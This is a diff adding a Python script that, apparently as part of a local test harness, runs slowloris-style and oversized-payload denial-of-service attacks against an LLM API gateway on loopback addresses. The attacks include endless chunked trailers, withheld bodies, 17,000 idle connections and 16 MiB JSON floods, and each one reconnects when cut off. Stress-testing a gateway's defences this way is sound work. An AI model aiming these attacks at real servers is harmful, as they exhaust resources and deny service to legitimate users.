@@ -1,0 +1,227 @@
+"""Attacks on a gateway, each as a client performs it: `python attacks.py NAME PORT SECONDS KEY`.
+
+run.py starts this file as a process of its own. Every attack ends by itself after SECONDS. An
+attack that the gateway cuts off begins again at once, as an enemy would.
+"""
+
+import asyncio
+import itertools
+import sys
+import time
+from collections.abc import Awaitable, Callable
+from contextlib import suppress
+from dataclasses import dataclass
+
+ADDRESS = "127.0.0.9"
+"""Where attackers come from; the other clients come from 127.0.0.1."""
+MANY_ADDRESSES = tuple(f"127.0.1.{number}" for number in range(1, 65))
+BODY_LIMIT = 16 << 20
+"""The gateway's default for one body, in bytes."""
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    port: int
+    deadline: float
+    """On the monotonic clock."""
+    key: str
+
+    @property
+    def over(self) -> bool:
+        return time.monotonic() >= self.deadline
+
+    def head(self, *fields: str, key: bool) -> bytes:
+        """A chat request's head; its body comes later, or never."""
+        lines = ["POST /v1/completions HTTP/1.1", "Host: gateway", "Content-Type: application/json"]
+        lines += [f"Authorization: Bearer {self.key}"] if key else []
+        return "\r\n".join([*lines, *fields, "", ""]).encode()
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    what: str
+    connections: int
+    act: Callable[[Target, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
+    """On one connection, until the gateway closes it or the time is over."""
+    addresses: tuple[str, ...] = (ADDRESS,)
+
+
+async def pipeline(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    batch = b"GET /openapi.json HTTP/1.1\r\nHost: gateway\r\n\r\n" * 500
+    await _send_for_ever(target, writer, batch)
+
+
+async def trail(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    writer.write(target.head("Transfer-Encoding: chunked", key=True) + b"2\r\n{}\r\n0\r\nX: ")
+    await _send_for_ever(target, writer, b"a" * 65_536)
+
+
+async def trail_fields(
+    target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter
+) -> None:
+    writer.write(target.head("Transfer-Encoding: chunked", key=True) + b"2\r\n{}\r\n0\r\n")
+    await _send_for_ever(target, writer, b"a: b\r\n" * 10_000)
+
+
+async def extend(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+    writer.write(target.head("Transfer-Encoding: chunked", key=True) + b"1;")
+    await _send_for_ever(target, writer, b"a" * 65_536)
+
+
+async def withhold(
+    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, key: bool
+) -> None:
+    """All of a body but its last byte."""
+    writer.write(target.head(f"Content-Length: {BODY_LIMIT}", key=key))
+    for _ in range(BODY_LIMIT // 65_536 - 1):
+        writer.write(b" " * 65_536)
+        await writer.drain()
+    await _hold(target, reader)
+
+
+async def withhold_without_key(
+    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
+) -> None:
+    await withhold(target, reader, writer, key=False)
+
+
+async def withhold_with_key(
+    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
+) -> None:
+    await withhold(target, reader, writer, key=True)
+
+
+async def crumble(
+    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
+) -> None:
+    """A body of the full size in pieces of three bytes."""
+    writer.write(target.head(f"Content-Length: {BODY_LIMIT}", key=True))
+    for number in itertools.count():
+        if target.over:
+            return
+        writer.transport.write(b"   ")
+        if number % 64 == 63:
+            await writer.drain()
+            await asyncio.sleep(0)
+
+
+async def idle(target: Target, reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
+    await _hold(target, reader)
+
+
+def send_body(body: bytes) -> Callable[..., Awaitable[None]]:
+    """The same request, whole, again and again."""
+
+    async def send(
+        target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
+    ) -> None:
+        while not target.over:
+            writer.write(target.head(f"Content-Length: {len(body)}", key=True) + body)
+            await writer.drain()
+            head = await reader.readuntil(b"\r\n\r\n")
+            length = next(
+                int(line.split(b":")[1])
+                for line in head.lower().split(b"\r\n")
+                if line.startswith(b"content-length")
+            )
+            await reader.readexactly(length)
+
+    return send
+
+
+def _full(start: bytes, element: bytes, end: bytes) -> bytes:
+    return start + element * ((BODY_LIMIT - len(start) - len(end)) // len(element)) + end
+
+
+def _fields() -> bytes:
+    names = b",".join(b'"f%d":0' % number for number in range(1_000_000))
+    return b'{"model":"other","prompt":"a",' + names + b"}"
+
+
+_MODEL = b'{"model":"other",'
+ATTACKS = {
+    "pipelined": Attack("requests for /openapi.json, answers never read", 4, pipeline),
+    "trailer": Attack("a trailer that never ends", 1, trail),
+    "trailers": Attack("trailer fields that never end", 1, trail_fields),
+    "extension": Attack("a chunk extension that never ends", 1, extend),
+    "bodies": Attack(
+        "64 bodies of 16 MiB without their last byte, no key", 64, withhold_without_key
+    ),
+    "bodies-key": Attack("the same with a valid key", 64, withhold_with_key),
+    "crumbs": Attack("8 bodies in pieces of three bytes", 8, crumble),
+    "idle": Attack("17,000 silent connections of one address", 17_000, idle),
+    "idle-many": Attack("17,000 silent connections of 64 addresses", 17_000, idle, MANY_ADDRESSES),
+    "prompts": Attack(
+        "16 MiB of prompts", 1, send_body(_full(_MODEL + b'"prompt":["a"', b',""', b"]}"))
+    ),
+    "tools": Attack(
+        "16 MiB of tools", 1, send_body(_full(_MODEL + b'"prompt":"a","tools":[{}', b",{}", b"]}"))
+    ),
+    "messages": Attack(
+        "16 MiB of messages", 1, send_body(_full(_MODEL + b'"messages":[{}', b",{}", b"]}"))
+    ),
+    "escapes": Attack(
+        "16 MiB of escapes", 1, send_body(_full(_MODEL + b'"prompt":"', rb"\u0041", b'"}'))
+    ),
+    "nested": Attack(
+        "16 MiB of brackets", 1, send_body(_full(_MODEL + b'"prompt":"a","x":', b"[", b"}"))
+    ),
+    "fields": Attack("a million fields", 1, send_body(_fields())),
+}
+
+
+async def perform(attack: Attack, target: Target) -> None:
+    """All connections of an attack, each opened again when it is cut off."""
+    addresses = itertools.cycle(attack.addresses)
+    starting = asyncio.Semaphore(64)
+    async with asyncio.TaskGroup() as group:
+        for _ in range(attack.connections):
+            group.create_task(_keep_on(attack, target, next(addresses), starting))
+
+
+async def _keep_on(
+    attack: Attack, target: Target, address: str, starting: asyncio.Semaphore
+) -> None:
+    while not target.over:
+        writer = None
+        # A reset, a refusal, an answer that ends: all mean that the gateway has defended itself.
+        with suppress(
+            OSError,
+            asyncio.IncompleteReadError,
+            asyncio.LimitOverrunError,
+            TimeoutError,
+            StopIteration,
+        ):
+            async with asyncio.timeout_at(
+                target.deadline - time.monotonic() + asyncio.get_running_loop().time()
+            ):
+                async with starting:
+                    reader, writer = await asyncio.open_connection(
+                        "127.0.0.1", target.port, local_addr=(address, 0)
+                    )
+                await attack.act(target, reader, writer)
+        if writer is not None:
+            writer.transport.abort()
+        await asyncio.sleep(0.05)
+
+
+async def _send_for_ever(target: Target, writer: asyncio.StreamWriter, piece: bytes) -> None:
+    while not target.over:
+        writer.write(piece)
+        await writer.drain()
+
+
+async def _hold(target: Target, reader: asyncio.StreamReader) -> None:
+    """Until the gateway closes."""
+    while not target.over and await reader.read(4096):
+        pass
+
+
+def main() -> None:
+    name, port, seconds, key = sys.argv[1:]
+    target = Target(int(port), time.monotonic() + float(seconds), key)
+    asyncio.run(perform(ATTACKS[name], target))
+
+
+if __name__ == "__main__":
+    main()
